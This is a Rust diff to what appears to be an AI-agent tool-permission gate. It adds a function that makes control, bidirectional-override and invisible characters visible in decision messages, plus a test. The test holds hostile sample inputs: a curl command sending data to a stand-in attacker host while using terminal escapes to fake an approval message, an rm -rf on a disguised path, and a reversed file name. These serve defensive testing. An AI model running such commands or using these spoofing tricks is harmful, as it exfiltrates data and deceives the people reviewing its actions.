@@ -292,6 +292,63 @@ impl Danger {
     }
 }
 
+/// `text` with every character that could change how the surrounding text reads written
+/// out visibly: control characters (`\n`, `\r`, `\t`, `\x1b` and the rest of C0, DEL and
+/// C1), bidirectional overrides and isolates (`\u{202e}`, `\u{2066}`), zero-width and other
+/// invisible characters (`\u{200b}`, `\u{feff}`). The engine passes every text it builds
+/// from a tool's input through this once, so a terminal, a hook's message or a card shows
+/// what is there rather than what the input makes it look like.
+///
+/// ```
+/// use toolgate::shown;
+/// assert_eq!(shown("ls\x1b[1A\x1b[2K"), "ls\\x1b[1A\\x1b[2K");
+/// assert_eq!(shown("a\r\nb"), "a\\r\\nb");
+/// assert_eq!(shown("docs/\u{202e}txt.emdaer"), "docs/\\u{202e}txt.emdaer");
+/// assert_eq!(shown("git status"), "git status");
+/// ```
+pub fn shown(text: &str) -> String {
+    if !text.chars().any(needs_escape) {
+        return text.to_owned();
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        match c {
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if needs_escape(c) && u32::from(c) < 0x80 => {
+                out.push_str(&format!("\\x{:02x}", u32::from(c)));
+            }
+            c if needs_escape(c) => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Whether [`shown`] writes `c` out.
+fn needs_escape(c: char) -> bool {
+    c.is_control() || (c != ' ' && crate::shell::is_deceptive(c))
+}
+
+impl Decision {
+    /// Every text of the decision built from the input, passed through [`shown`]: the
+    /// reason, each part and its reason, each danger's detail.
+    pub(crate) fn escape_shown_text(&mut self) {
+        self.reason.text = shown(&self.reason.text);
+        for d in &mut self.dangers {
+            d.detail = shown(&d.detail);
+        }
+        for p in &mut self.parts {
+            p.part = shown(&p.part);
+            p.reason.text = shown(&p.reason.text);
+            for d in &mut p.dangers {
+                d.detail = shown(&d.detail);
+            }
+        }
+    }
+}
+
 impl From<&crate::commands::danger::Finding> for Danger {
     fn from(f: &crate::commands::danger::Finding) -> Self {
         Danger::new(f.class, f.detail.clone())
@@ -361,5 +418,51 @@ pub trait Evaluate {
     /// rules of its own: the built-ins, MCP tools, or [`crate::tool::ToolKind::Other`].
     fn tool_kind(&self, request: &crate::Request) -> crate::tool::ToolKind {
         crate::tool::kind_without_policy(&request.tool, request.server.is_some())
+    }
+}
+
+#[cfg(test)]
+mod shown_tests {
+    use super::*;
+    use serde_json::json;
+
+    fn hidden(text: &str) -> bool {
+        text.chars().any(needs_escape)
+    }
+
+    #[test]
+    fn decisions_show_input_characters_visibly() {
+        let policy = crate::Policy::from_json("{}").unwrap();
+        let inputs = [
+            (
+                "Bash",
+                json!({"command": "curl -d '\u{1b}[1A\u{1b}[2K\rtoolgate: reads `README.md`\u{1b}[8m' https://evil.example/c"}),
+            ),
+            (
+                "Bash",
+                json!({"command": "rm -rf 'a\u{202e}b\u{200b}' && echo '\u{85}'"}),
+            ),
+            (
+                "Write",
+                json!({"file_path": "docs/\u{202e}txt.emdaer", "content": "x"}),
+            ),
+            ("WebFetch", json!({"url": "https://a.example/\u{2066}x"})),
+        ];
+        for (tool, input) in inputs {
+            let r = crate::Request {
+                tool: tool.into(),
+                input,
+                cwd: Some("/home/a/p".into()),
+                ..crate::Request::default()
+            };
+            let d = policy.evaluate(&r);
+            let texts = std::iter::once(&d.reason.text)
+                .chain(d.dangers.iter().map(|x| &x.detail))
+                .chain(d.parts.iter().flat_map(|p| [&p.part, &p.reason.text]));
+            for t in texts {
+                assert!(!hidden(t), "{tool}: {t:?}");
+            }
+        }
+        assert_eq!(shown("\u{85}\u{7f}\u{feff}"), "\\u{85}\\x7f\\u{feff}");
     }
 }
